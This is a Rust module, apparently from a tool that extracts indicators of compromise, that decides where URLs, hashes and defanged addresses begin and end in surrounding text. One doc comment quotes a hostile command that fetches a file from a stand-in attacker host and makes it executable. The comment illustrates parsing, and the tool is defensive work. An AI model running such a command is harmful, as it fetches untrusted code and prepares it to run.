//! The text around a candidate, and the form of the whole text.

use super::{is_file_name, refang, span::Span, word::Word};

/// The number of bytes before a candidate that are looked at.
pub(super) const LOOK_BACK: usize = 48;

/// Words before hexadecimal digits that are no hash of a file.
const OTHER_IDS: [&str; 36] = [
    "api_key",
    "apikey",
    "checkout",
    "client_id",
    "commit",
    "cookie",
    "correlation_id",
    "csrf",
    "etag",
    "guid",
    "head",
    "key",
    "merge",
    "nonce",
    "parent",
    "password",
    "phpsessid",
    "request_id",
    "requestid",
    "rev",
    "revision",
    "secret",
    "session",
    "session_id",
    "sessionid",
    "sid",
    "span_id",
    "spanid",
    "token",
    "trace",
    "trace_id",
    "traceid",
    "traceparent",
    "tree",
    "uuid",
    "x_apikey",
];

/// The form of a text, as far as it decides where indicators end.
#[derive(Clone, Debug)]
pub(super) struct Context {
    /// Whether the text is JSON, so that a backslash begins an escape.
    pub(super) is_json: bool,
    /// The separator of a table's columns.
    separator: Option<char>,
}

impl Context {
    /// Looks at the beginning of a text.
    pub(super) fn of(text: &str) -> Self {
        let start = text.trim_start_matches('\u{feff}').trim_start();
        let is_json =
            start.starts_with(['{', '"']) || start.starts_with("[{") || start.starts_with("[\"");
        let first = start.lines().next().unwrap_or_default();
        // A heading has several columns of which none is a URL.
        let separates = |separator: char| {
            let mut columns = first.split(separator);
            let is_column = |it: &str| !it.is_empty() && it.len() < 64 && !it.starts_with(' ');
            !first.contains('/') && first.contains(separator) && columns.all(is_column)
        };
        Self {
            is_json,
            separator: [',', ';'].into_iter().find(|it| separates(*it)),
        }
    }

    /// Returns the separator that ends a URL which stands behind this character.
    pub(super) fn delimiter(&self, before: Option<char>) -> Option<char> {
        match before {
            Some(',' | ';') => before,
            Some('"' | '\'') => None,
            _ => self.separator,
        }
    }
}

/// Returns the length of the escape in JSON that begins here.
pub(super) fn escape_length(rest: &str) -> usize {
    match rest.as_bytes().get(1) {
        Some(b'u')
            if rest
                .as_bytes()
                .get(2..6)
                .is_some_and(|it| it.iter().all(u8::is_ascii_hexdigit)) =>
        {
            6
        }
        Some(b'"' | b'\\' | b'/' | b'b' | b'f' | b'n' | b'r' | b't') => 2,
        _ => 1,
    }
}

/// Returns the length of a `://` here, defanged or escaped as in JSON.
pub(super) fn scheme_end(rest: &str) -> Option<usize> {
    let escaped = ":\\/\\/";
    if rest.starts_with(escaped) {
        return Some(escaped.len());
    }
    if !rest.starts_with([':', '[', '(', '{']) {
        return None;
    }
    refang::scheme_end(rest)
}

/// Returns whether the URL of a web page begins here.
pub(super) fn begins_scheme(rest: &str) -> bool {
    let rest = rest.trim_start_matches('"');
    refang::scheme_word(rest).is_some_and(|(word, _)| scheme_end(&rest[word.len()..]).is_some())
}

/// Returns whether behind a semicolon stands a word rather than the parameter of a path, as in
/// `curl http://evil.example/x;chmod 777 x`.
pub(super) fn begins_command(rest: &str) -> bool {
    let is_of_word = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.');
    let length = rest.bytes().take(LOOK_BACK).take_while(is_of_word).count();
    let next = rest.as_bytes().get(length).copied();
    length > 0
        && length < LOOK_BACK
        && next.is_none_or(|it| it.is_ascii_whitespace() || matches!(it, b';' | b'|'))
}

/// Returns the offset of the `http` or `https` that ends a word, defanged or not.
pub(super) fn http_scheme_start(word: &Word<'_>) -> Option<usize> {
    [5, 4].into_iter().find_map(|length| {
        let at = word.text.len().checked_sub(length)?;
        let (scheme, _) = refang::scheme_word(word.text.get(at..)?)?;
        (scheme.len() == length).then_some(word.start + at)
    })
}

/// Returns the length of an at sign here, defanged or not.
pub(super) fn at_sign(rest: &str) -> Option<usize> {
    if rest.starts_with('@') {
        return Some(1);
    }
    let signs = ["[@]", "(@)", "{@}", "[at]", "(at)", "{at}"];
    let is_here = |sign: &&str| {
        let given = rest.as_bytes().get(..sign.len());
        given.is_some_and(|given| given.eq_ignore_ascii_case(sign.as_bytes()))
    };
    signs
        .iter()
        .find(|sign| is_here(sign))
        .map(|sign| sign.len())
}

/// Returns whether an at sign ends here.
pub(super) fn is_behind_at_sign(before: &str) -> bool {
    let end = tail(before, 4);
    end.ends_with('@')
        || ["[@]", "(@)", "{@}", "[at]", "(at)", "{at}"]
            .iter()
            .any(|sign| {
                let at = end.len().checked_sub(sign.len());
                at.and_then(|at| end.get(at..))
                    .is_some_and(|it| it.eq_ignore_ascii_case(sign))
            })
}

/// Returns whether a name here is a part of a path, and not the host at its root.
///
/// Backslashes may be doubled, as in JSON and in source code.
pub(super) fn is_in_path(before: &str) -> bool {
    if before.ends_with('/') {
        return !before.ends_with("//");
    }
    let slashes = tail(before, LOOK_BACK);
    let folder = slashes.trim_end_matches('\\');
    let is_folder = |letter: char| letter.is_alphanumeric() || "_-.:)%$".contains(letter);
    match slashes.len() - folder.len() {
        0 => false,
        1 => true,
        _ => folder.ends_with(is_folder),
    }
}

/// Returns the number of neighbours, at most two, that are the names of files: `a.php, b.pl, c.dat`.
pub(super) fn files_around(before: &str, after: &str) -> usize {
    let is_between =
        |it: char| it.is_whitespace() || matches!(it, ',' | ';' | '`' | '"' | '\'' | '(' | ')');
    let before = tail(before, LOOK_BACK).trim_end_matches(is_between);
    let mut end = after.len().min(LOOK_BACK);
    while !after.is_char_boundary(end) {
        end -= 1;
    }
    let after = after[..end].trim_start_matches(is_between);
    let neighbours = [
        before.rsplit(is_between).next(),
        after.split(is_between).next(),
    ];
    neighbours
        .into_iter()
        .flatten()
        .filter(|it| is_file_name(it))
        .count()
}

/// Returns whether a path or a query begins here.
pub(super) fn begins_path(rest: &str) -> bool {
    let is_query = |rest: &str| rest.starts_with(|it: char| it.is_alphanumeric());
    rest.starts_with('/') || rest.starts_with("[/]") || rest.strip_prefix('?').is_some_and(is_query)
}

/// Returns whether the path is that of a source file of a versioned module, or of a container's
/// image.
pub(super) fn is_source_path(url: &str) -> bool {
    let is_version =
        |(at, _): (usize, &str)| url[at + 2..].starts_with(|it: char| it.is_ascii_digit());
    url.contains(".go:") || url.contains("@sha256:") || url.match_indices("@v").any(is_version)
}

/// Returns whether an entity of HTML that ends an attribute or an element's text begins here.
pub(super) fn is_entity_of_quote(rest: &str) -> bool {
    let entities = [
        "&quot;", "&gt;", "&lt;", "&#39;", "&#34;", "&apos;", "&nbsp;",
    ];
    entities.iter().any(|entity| rest.starts_with(entity))
}

/// Returns whether a URL names a vocabulary or a document type of markup.
pub(super) fn is_markup(text: &str, url: Span) -> bool {
    let before = tail(&text[..url.start], LOOK_BACK).trim_end_matches(['"', '\'']);
    let attribute = before.strip_suffix('=').map(str::trim_end);
    let is_namespace = attribute.is_some_and(|before| {
        let name = before.rsplit(char::is_whitespace).next().unwrap_or(before);
        name == "xmlns" || name.starts_with("xmlns:")
    });
    is_namespace || url.of(text).strip_suffix(".dtd").is_some()
}

/// Returns the place behind the name of an algorithm and a hyphen or an underscore.
pub(super) fn behind_algorithm(word: &str) -> usize {
    let names = ["md5", "sha1", "sha256", "sha-1", "sha-256"];
    let length = |name: &&str| {
        let given = word.get(..name.len())?;
        let is_name = given.eq_ignore_ascii_case(name);
        (is_name && word[name.len()..].starts_with(['-', '_'])).then_some(name.len() + 1)
    };
    names.iter().find_map(length).unwrap_or(0)
}

/// Returns whether the hexadecimal digits here are an id other than a hash of a file: that of a
/// commit or a session, a key.
pub(super) fn is_other_id(text: &str, start: usize) -> bool {
    let before = &text[..start];
    let word = word_before(before).replace('-', "_");
    // The digest of a container's image.
    OTHER_IDS.contains(&word.as_str()) || tail(before, 8) == "@sha256:"
}

/// Returns the word before, in lower case, across blanks, quotation marks, colons and the like.
pub(super) fn word_before(before: &str) -> String {
    let end = tail(before, LOOK_BACK).trim_end_matches([
        ' ', '\t', '"', '\'', '`', ':', '=', '(', '[', '*', '\\', '.',
    ]);
    let is_part = |letter: char| letter.is_alphanumeric() || matches!(letter, '_' | '-' | '§');
    let word = end.rsplit(|letter| !is_part(letter)).next();
    word.unwrap_or_default().to_lowercase()
}

/// Returns at most this many bytes of the end of a text.
pub(super) fn tail(text: &str, most: usize) -> &str {
    let mut from = text.len().saturating_sub(most);
    while !text.is_char_boundary(from) {
        from += 1;
    }
    &text[from..]
}
